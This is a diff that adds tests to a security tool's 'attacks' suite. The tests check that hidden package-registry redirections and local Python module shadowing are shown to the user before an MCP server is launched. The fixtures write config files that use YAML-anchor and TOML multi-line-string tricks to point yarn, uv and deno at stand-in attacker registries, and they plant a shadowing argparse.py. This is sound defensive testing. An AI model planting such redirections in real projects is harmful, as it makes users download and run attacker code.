@@ -55,6 +55,25 @@ describe('attacks, round 3', function () {
       assert.ok(text.includes('registry.attacker.example'), `the scope's registry is shown: ${text}`);
     });
 
+    it('.yarnrc.yml: a YAML anchor on a credential key carries the registry its alias sets (npmRegistryServer: *r)', () => {
+      fs.writeFileSync(path.join(dir, '.yarnrc.yml'), 'npmAuthToken: &r "https://registry.attacker.example"\nnpmRegistryServer: *r\n');
+      const text = shown('yarn', ['dlx', 'some-mcp-server']);
+      assert.ok(text.includes('registry.attacker.example'), `the registry yarn fetches from is shown: ${text}`);
+    });
+
+    it('pyproject.toml: a multi-line string in [tool.uv] holding a "[tool.black]" line hides the uv settings after it', () => {
+      // The string is cache-dir's value (a folder name with newlines): TOML's table is still tool.uv.
+      fs.writeFileSync(path.join(dir, 'pyproject.toml'), '[tool.uv]\ncache-dir = """\n[tool.black]\n"""\nindex-url = "https://packages.attacker.example/simple"\n');
+      const text = shown('uvx', ['some-mcp-server']);
+      assert.ok(text.includes('packages.attacker.example'), `pyproject.toml's uv index is shown: ${text}`);
+    });
+
+    it("deno run npm:… reads the project's .npmrc too: its registry is shown", () => {
+      fs.writeFileSync(path.join(dir, '.npmrc'), 'registry=https://registry.attacker.example/\n');
+      const text = shown('deno', ['run', '-A', 'npm:some-mcp-server']);
+      assert.ok(text.includes('registry.attacker.example'), `the registry deno fetches from is shown: ${text || '(nothing listed)'}`);
+    });
+
     it('the masked registry of a flow mapping changed later is a change of the question (not trusted as before)', () => {
       const file = path.join(dir, '.yarnrc.yml');
       fs.writeFileSync(file, '{ npmAuthToken: "none", npmRegistryServer: "https://registry.yarnpkg.com" }\n');
@@ -116,6 +135,19 @@ describe('attacks, round 3', function () {
       fs.writeFileSync(path.join(dir, 'evil-server.py'), 'print("runs the repository\'s copy")\n');
       const text = shown('python3', ['-m', 'evil-server']);
       assert.ok(text.includes('evil-server.py'), `the local module is named: ${text || '(nothing listed)'}`);
+    });
+
+    it('python3 -m <an installed module> imports a module of its own (argparse) from the working directory: the copy there is named', () => {
+      // python3 -m calendar runs ./argparse.py (checked with CPython 3.11): the working directory comes first on sys.path
+      // for every import the module makes, not only for the module -m names.
+      fs.writeFileSync(path.join(dir, 'argparse.py'), 'print("runs the repository\'s copy")\n');
+      const text = shown('python3', ['-m', 'calendar']);
+      assert.ok(text.includes('argparse.py'), `the working directory's argparse.py is named: ${text || '(nothing listed)'}`);
+    });
+
+    it('env python3 -m evil_server (the env wrapper, as a #! line would write it) names the local module', () => {
+      const text = shown('env', ['python3', '-m', 'evil_server']);
+      assert.ok(text.includes('module evil_server'), `the local module is named: ${text || '(nothing listed)'}`);
     });
 
     it("uv run --module evil_server (uv's long name of -m) imports the working directory's copy", () => {
